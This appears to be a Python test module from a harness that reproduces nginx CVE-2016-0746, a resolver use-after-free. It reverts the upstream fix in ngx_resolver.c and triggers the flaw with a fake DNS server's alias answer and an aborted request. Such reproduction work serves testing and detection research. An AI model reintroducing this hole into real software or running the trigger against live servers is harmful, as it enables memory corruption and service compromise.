# SPDX-License-Identifier: MIT
"""CVE-2016-0746: of several requests that wait for a name which turns out to be an alias, only one
can be taken from the list again; the context of another that is aborted is freed and stays in
it."""

import contextlib
import time

from server import Names, backend, body_of, rest_of

TITLE = "CVE-2016-0746: alias that several requests wait for"
FIXED = "1.9.10 (2016)"
COMMIT = "a3d42258d97e"
NAMED = "ngx_resolver_ctx_t"
NOT_TOLD = (
    "not told. The context is from `malloc`, which the option does not look after; so it is not"
    " stopped either."
)
STOPPED = "no"
CONFIGURATION = """
http {{
  access_log off;
  resolver 127.0.0.1:{names} ipv6=off;
  resolver_timeout 10s;
  server {{
    listen 127.0.0.1:{port};
    root {directory}/pages;
    location /go {{ proxy_pass http://$arg_name:{behind}/; }}
  }}
}}
"""
FILES = {}


def put_back(tree):
    tree.replace(
        "src/core/ngx_resolver.c",
        r"do \{\n *(ctx->node = rn;\n) *ctx = ctx->next;\n *\} while \(ctx\);\n",
        r"\1",
        2,
    )


def mend(tree):
    """The Debian package has the fix."""


@contextlib.contextmanager
def surroundings():
    def handle(connection):
        connection.recv(4096)
        connection.sendall(b"HTTP/1.0 200 OK\r\n\r\nfrom behind\n")

    names = Names()
    with backend(handle) as port, names.socket:
        yield {"names": names.port, "behind": port, "server_of_names": names}


def provoke(server):
    names = server.names["server_of_names"]
    first = server.send("/go?name=one.test")
    question = names.question()
    second = server.send("/go?name=one.test", "Connection: close\r\n")
    time.sleep(0.3)
    names.answer_alias(question, "other.test")
    question = names.question()
    first.close()
    time.sleep(0.3)
    for _ in range(20):
        server.ask("/index.html")
    names.answer_address(question)
    with second:
        return [body_of(rest_of(second))]
